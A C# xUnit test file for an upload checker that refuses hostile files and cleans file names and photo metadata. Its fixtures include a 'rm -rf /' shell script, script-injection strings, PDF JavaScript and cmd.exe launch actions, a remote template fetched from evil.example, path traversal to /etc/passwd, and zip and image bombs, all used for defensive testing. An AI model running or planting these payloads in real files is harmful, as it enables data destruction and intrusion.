using System.Text;
using Meguri.Shared.Files;
using Meguri.Shared.Workbooks;
using SkiaSharp;
using static Meguri.Tests.TestSupport.SampleFiles;

namespace Meguri.Tests.Shared.Files;

public sealed class FileCheckTests
{
    private const string Vba = "word/vbaProject.bin";

    private static readonly Dictionary<string, (string Name, Func<byte[]> Bytes)> Hostile = new(StringComparer.Ordinal)
    {
        ["empty: nothing"] = ("資料.pdf", () => []),
        ["too-large: one byte too many"] = ("資料.txt", () => [.. Enumerable.Repeat((byte)'a', FileLimits.OneFile + 1)]),
        ["program: exe named pdf"] = ("請求書.pdf", () => Encoding.ASCII.GetBytes("MZ\0\0This program cannot be run in DOS mode")),
        ["program: elf"] = ("資料", () => [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1]),
        ["program: script"] = ("手順.txt", () => "#!/bin/sh\nrm -rf /\n"u8.ToArray()),
        ["program: shortcut"] = ("写真.jpg", () => [0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0]),
        ["program-name: double end"] = ("写真.jpg.exe", () => Picture(SKEncodedImageFormat.Jpeg)),
        ["program-name: program before the end"] = ("請求書.exe.pdf", () => Pdf()),
        ["program-name: page"] = ("図.svg", () => Picture(SKEncodedImageFormat.Png)),
        ["markup: html named pdf"] = ("資料.pdf", () => "<!DOCTYPE html><html><script>alert(1)</script>"u8.ToArray()),
        ["markup: html named txt"] = ("資料.txt", () => "﻿ \n<html><body onload=alert(1)>"u8.ToArray()),
        ["markup: svg named png"] = ("図.txt", () => "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"u8.ToArray()),
        ["markup: script behind words"] = ("資料.csv", () => "名前,値\n<script>alert(1)</script>,1\n"u8.ToArray()),
        ["markup: utf-16"] = ("資料.txt", () => [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<html><script>")]),
        ["virus-test: EICAR"] = ("資料.txt", () =>
            Encoding.ASCII.GetBytes(@"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
        ),
        ["unknown: text by another name"] = ("資料.pdf", () => "ただの文字です。"u8.ToArray()),
        ["unknown: bytes"] = ("資料.txt", () => [1, 2, 3, 0, 255, 254, 7, 8, 9]),
        ["heic: tiff"] = ("写真.jpg", () => [(byte)'I', (byte)'I', 0x2A, 0, 8, 0, 0, 0]),
        ["heic: heic named jpg"] = ("写真.jpg", () => [0, 0, 0, 24, .. "ftypheic"u8, 0, 0, 0, 0]),
        ["old-office: xls"] = ("表.xlsx", () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]]),
        ["encrypted: office with a password"] = ("表.xlsx", () =>
            [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504], .. Encoding.Unicode.GetBytes("EncryptedPackage")]
        ),
        ["encrypted: pdf"] = ("資料.pdf", () => Pdf(trailer: "/Encrypt 9 0 R ")),
        ["encrypted: pdf with an escaped name"] = ("資料.pdf", () => Pdf(trailer: "/Encr#79pt 9 0 R ")),
        ["encrypted: odt"] = ("文.odt", () =>
            Odt(("META-INF/manifest.xml2", ""), ("x/META-INF/manifest.xml", "<manifest:encryption-data/>"))
        ),
        ["macro: xlsm named xlsx"] = ("表.xlsx", () => Xlsx(("xl/vbaProject.bin", "x"))),
        ["macro: docm named docx"] = ("文.docx", () => Docx((Vba, "x"))),
        ["macro: by its type only"] = ("文.docx", () =>
            Docx(("[Content_Types].xml", "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"))
        ),
        ["macro: docm by its own name"] = ("文.docm", () => Docx((Vba, "x"))),
        ["macro: odt with Basic"] = ("文.odt", () => Odt(("Basic/Standard/Module1.xml", "<x/>"))),
        ["active: activeX"] = ("文.docx", () => Docx(("word/activeX/activeX1.xml", "<x/>"))),
        ["active: packed object"] = ("文.docx", () => Docx(("word/embeddings/oleObject1.bin", "MZ"))),
        ["active: exe inside"] = ("文.docx", () => Docx(("word/media/image1.exe", "MZ"))),
        ["active: pdf with script"] = ("資料.pdf", () => Pdf("3 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj")),
        ["active: pdf with packed script"] = ("資料.pdf", () => PdfWithPacked("3 0 << /S /JavaScript /JS (x) >>")),
        ["active: pdf with a hidden name"] = ("資料.pdf", () => Pdf("3 0 obj\n<< /S /J#61vaScript >>\nendobj")),
        ["active: pdf that starts a program"] = ("資料.pdf", () => Pdf("3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj")),
        ["active: packed twice"] = ("資料.pdf", () =>
            Pdf(
                "5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] /Length 2 >>\nstream\n00\nendstream\nendobj"
            )
        ),
        ["inside: pdf with a file in it"] = ("資料.pdf", () => Pdf("3 0 obj\n<< /Type /EmbeddedFile >>\nendobj")),
        ["external: remote template"] = ("文.docx", () =>
            Docx(
                (
                    "word/_rels/settings.xml.rels",
                    "<Relationships><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='http://evil.example/x.dotm' TargetMode='External'/></Relationships>"
                )
            )
        ),
        ["broken: cut pdf"] = ("資料.pdf", () => Pdf()[..150]),
        ["broken: cut jpeg"] = ("写真.jpg", () => Picture(SKEncodedImageFormat.Jpeg, 400, 400)[..700]),
        ["broken: png head only"] = ("図.png", () => [0x89, (byte)'P', (byte)'N', (byte)'G', 13, 10, 26, 10]),
        ["broken: zip"] = ("文.docx", () => "PK\x3\x4 broken"u8.ToArray()),
        ["broken: cut docx"] = ("文.docx", () => Docx()[..^30]),
        ["broken: entity bomb"] = ("文.docx", () =>
            Docx(("word/document.xml", "<!DOCTYPE x [<!ENTITY a 'aaaa'>]><document>&a;</document>"))
        ),
        ["broken: way out of the folder"] = ("文.docx", () => Docx(("../../etc/passwd", "x"))),
        ["polyglot: zip behind a pdf"] = ("資料.pdf", () => [.. Pdf(), .. Zip(("a.txt", "a"u8.ToArray()))]),
        ["polyglot: page behind a pdf"] = ("資料.pdf", () => [.. Pdf(), .. "<script>alert(1)</script>"u8]),
        ["polyglot: something before a docx"] = ("文.docx", () => [.. Docx()[..30], .. Docx()]),
        ["polyglot: something behind a docx"] = ("文.docx", () => [.. Docx(), .. "MZ program"u8]),
        ["bomb: zip bomb named docx"] = ("文.docx", () =>
            Zip(("[Content_Types].xml", "<Types/>"u8.ToArray()), ("word/document.xml", new byte[3_000_000]))
        ),
        ["bomb: many large pictures"] = ("文.docx", () =>
            Zip(
                ("[Content_Types].xml", "<Types/>"u8.ToArray()),
                ("word/document.xml", "<d/>"u8.ToArray()),
                ("word/media/a.bmp", new byte[210_000_000])
            )
        ),
        ["pixels: png bomb"] = ("図.png", () => PngOf(25_000, 25_000)),
        ["pixels: endless line"] = ("図.png", () => PngOf(1_000_000, 1)),
        ["packed: plain zip"] = ("資料.zip", () => Zip(("a.txt", "a"u8.ToArray()))),
        ["packed: plain zip named docx"] = ("文.docx", () => Zip(("a.exe", "MZ"u8.ToArray()))),
        ["packed: 7z"] = ("資料.docx", () => [(byte)'7', (byte)'z', 0xBC, 0xAF, 0x27, 0x1C, 0, 4]),
    };

    public static TheoryData<string> Cases => [.. Hostile.Keys];

    [Theory]
    [MemberData(nameof(Cases))]
    public void Hostile_files_are_refused_with_their_reason(string name)
    {
        var (fileName, bytes) = Hostile[name];
        var refused = Assert.Throws<FileRefusedException>(() => Read(bytes(), fileName));
        Assert.Equal(name[..name.IndexOf(':', StringComparison.Ordinal)], refused.Code);
        Assert.EndsWith("。", refused.Message.TrimEnd('）'), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("文.docx", ".docx")]
    [InlineData("表.xlsx", ".xlsx")]
    [InlineData("文.odt", ".odt")]
    [InlineData("資料.pdf", ".pdf")]
    [InlineData("次第.txt", ".txt")]
    [InlineData("名簿.CSV", ".csv")]
    public void Good_files_are_kept_byte_for_byte(string name, string end)
    {
        var bytes = end switch
        {
            ".docx" => Docx(),
            ".xlsx" => Xlsx(),
            ".odt" => Odt(),
            ".pdf" => Pdf(),
            _ => Encoding.UTF8.GetBytes("名前,値\r\n葛󠄀飾 𠮷子,1\r\n"),
        };
        var file = Read(bytes, name);
        Assert.Equal(bytes, Bytes(file));
        Assert.EndsWith(end, file.Name, StringComparison.Ordinal);
        Assert.Empty(file.Persons);
    }

    [Fact]
    public void Text_in_the_encoding_of_windows_keeps_its_bytes_and_says_so()
    {
        Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
        var bytes = Encoding.GetEncoding(932).GetBytes("委員,所属\r\n髙橋,①大学\r\n");
        var file = Read(bytes, "名簿.csv");
        Assert.Equal(bytes, Bytes(file));
        Assert.Equal("text/csv; charset=shift_jis", file.MediaType);
    }

    [Fact]
    public void A_photograph_loses_where_and_who_and_stands_upright()
    {
        var photo = CameraJpeg(orientation: 6);
        Assert.Contains("Taro Himitsu", Encoding.Latin1.GetString(photo), StringComparison.Ordinal);
        var file = Read(photo, "IMG_0001.JPG");
        var kept = Encoding.Latin1.GetString(Bytes(file));
        foreach (var secret in (string[])["Exif", "Taro", "SecretCamera", "GPS41"])
            Assert.DoesNotContain(secret, kept, StringComparison.Ordinal);
        using var picture = SKBitmap.Decode(Bytes(file));
        Assert.Equal((32, 64), (picture.Width, picture.Height));
        // Held turned: what was left is above.
        Assert.True(picture.GetPixel(16, 8).Red > 200 && picture.GetPixel(16, 56).Blue > 200);
        Assert.Equal(("IMG_0001.jpg", "image/jpeg"), (file.Name, file.MediaType));
        using var small = SKBitmap.Decode(file.Thumbnail);
        Assert.Equal((32, 64), (small.Width, small.Height));
    }

    [Theory]
    [InlineData(1, 64, 32, true, false)]
    [InlineData(2, 64, 32, false, false)]
    [InlineData(3, 64, 32, false, false)]
    [InlineData(4, 64, 32, true, false)]
    [InlineData(5, 32, 64, true, true)]
    [InlineData(6, 32, 64, true, true)]
    [InlineData(7, 32, 64, false, true)]
    [InlineData(8, 32, 64, false, true)]
    public void However_the_camera_was_held_the_picture_stands_upright(byte orientation, int width, int height, bool redFirst, bool upDown)
    {
        using var picture = SKBitmap.Decode(Bytes(Read(CameraJpeg(orientation), "写真.jpg")));
        Assert.Equal((width, height), (picture.Width, picture.Height));
        var first = upDown ? picture.GetPixel(width / 2, 4) : picture.GetPixel(4, height / 2);
        Assert.Equal(redFirst, first.Red > 200);
    }

    [Fact]
    public void What_hangs_behind_a_picture_is_gone()
    {
        byte[] evil = [.. Picture(SKEncodedImageFormat.Png), .. Zip(("evil.txt", "x"u8.ToArray())), .. "<script>alert(1)</script>"u8];
        var kept = Encoding.Latin1.GetString(Bytes(Read(evil, "図.png")));
        Assert.DoesNotContain("script", kept, StringComparison.Ordinal);
        Assert.DoesNotContain("evil", kept, StringComparison.Ordinal);
    }

    [Fact]
    public void The_same_picture_gives_the_same_bytes() =>
        Assert.Equal(Read(CameraJpeg(), "a.jpg").Sha256, Read(CameraJpeg(), "b.jpg").Sha256);

    [Fact]
    public void A_large_photograph_is_made_smaller_and_the_person_told()
    {
        var file = Read(Picture(SKEncodedImageFormat.Jpeg, 8000, 4000), "大.jpg");
        using var picture = SKBitmap.Decode(Bytes(file));
        Assert.InRange((long)picture.Width * picture.Height, 1_000_000, Pictures.MostPixels);
        Assert.Contains("縮めて", file.Note, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("docx")]
    [InlineData("pdf")]
    [InlineData("pdf-utf16")]
    [InlineData("pdf-packed")]
    [InlineData("odt")]
    public void Persons_in_the_properties_are_told(string kind)
    {
        var (bytes, name) = kind switch
        {
            "docx" => (Docx(Core("山田 太郎")), "文.docx"),
            "odt" => (Odt(("meta.xml", "<meta:initial-creator>山田 太郎</meta:initial-creator>")), "文.odt"),
            "pdf" => (Pdf("3 0 obj\n<< /Author (Yamada \\(Taro\\)) >>\nendobj"), "文.pdf"),
            "pdf-packed" => (PdfWithPacked("3 0 << /Author <FEFF5C717530> >>"), "文.pdf"),
            _ => (Pdf("3 0 obj\n<< /Author <FEFF5C717530 > >>\nendobj"), "文.pdf"),
        };
        Assert.Equal(
            [
                kind switch
                {
                    "pdf" => "Yamada (Taro)",
                    "docx" or "odt" => "山田 太郎",
                    _ => "山田",
                },
            ],
            Read(bytes, name).Persons
        );
    }

    [Fact]
    public void A_paper_made_to_be_read_for_ever_is_read_at_once() =>
        Assert.Empty(Read(Pdf(string.Concat(Enumerable.Repeat("/Author (", 300_000))), "文.pdf").Persons);

    [Fact]
    public void A_workbook_within_a_document_is_looked_into()
    {
        var good = Zip(
            ("[Content_Types].xml", "<Types/>"u8.ToArray()),
            ("word/document.xml", "<d/>"u8.ToArray()),
            ("word/embeddings/a.xlsx", Xlsx())
        );
        Assert.Equal("文.docx", Read(good, "文.docx").Name);
        var bad = Zip(
            ("[Content_Types].xml", "<Types/>"u8.ToArray()),
            ("word/document.xml", "<d/>"u8.ToArray()),
            ("word/embeddings/a.xlsx", Xlsx(("xl/vbaProject.bin", "x")))
        );
        Assert.Equal("macro", Assert.Throws<FileRefusedException>(() => Read(bad, "文.docx")).Code);
    }

    [Theory]
    [InlineData(@"C:\fakepath\..\..\資料.pdf", "資料.pdf")]
    [InlineData("../../../etc/passwd.pdf", "passwd.pdf")]
    [InlineData("資\u0001料\r\n\0.pdf", "資料.pdf")]
    [InlineData("fdp.\u202Etxt.pdf", "fdp.txt.pdf")]
    [InlineData("写真.PNG", "写真.pdf")]
    [InlineData("第1.2版", "第1.2版.pdf")]
    [InlineData("…", "….pdf")]
    [InlineData(".pdf", "ファイル.pdf")]
    [InlineData(".htaccess", "htaccess.pdf")]
    [InlineData("con.pdf", "_con.pdf")]
    [InlineData("a<b>\"c|d?.pdf", "abcd.pdf")]
    [InlineData("葛󠄀飾の𠮷野家　髙﨑.pdf", "葛󠄀飾の𠮷野家　髙﨑.pdf")]
    public void Names_are_kept_as_far_as_they_can_be_seen(string given, string kept) => Assert.Equal(kept, Read(Pdf(), given).Name);

    [Fact]
    public void Very_long_names_are_cut_between_characters()
    {
        var name = Read(Pdf(), new string('字', 119) + string.Concat(Enumerable.Repeat("葛󠄀", 200)) + ".pdf").Name;
        Assert.EndsWith("葛󠄀.pdf", name, StringComparison.Ordinal);
        Assert.InRange(name.Length, 100, FileNames.Most);
        Assert.InRange(
            Read(Pdf(), string.Concat(Enumerable.Repeat("が\u0301\u0301\u0301\u0301\u0301\u0301", 300)) + ".pdf").Name.Length,
            5,
            FileNames.Most
        );
    }

    [Fact]
    public void The_header_carries_any_name()
    {
        var header = FileAnswer.Disposition(show: false, "葛󠄀飾の𠮷\"; x=y.pdf");
        Assert.StartsWith("attachment; ", header, StringComparison.Ordinal);
        Assert.Contains("filename*=UTF-8''" + Uri.EscapeDataString("葛󠄀飾の𠮷\"; x=y.pdf"), header, StringComparison.Ordinal);
        Assert.True(header.All(char.IsAscii), header);
    }

    private static CheckedFile Read(byte[] bytes, string name)
    {
        if (bytes.Length == 0 || bytes.Length > FileLimits.OneFile)
            return new FileCheck(null!).ReadAsync(new MemoryStream(bytes), name).GetAwaiter().GetResult();
        return FileCheck.Read(new MemoryStream(bytes), name);
    }

    private static byte[] Bytes(CheckedFile file)
    {
        using var copy = new MemoryStream();
        file.Content.Position = 0;
        file.Content.CopyTo(copy);
        return copy.ToArray();
    }
}
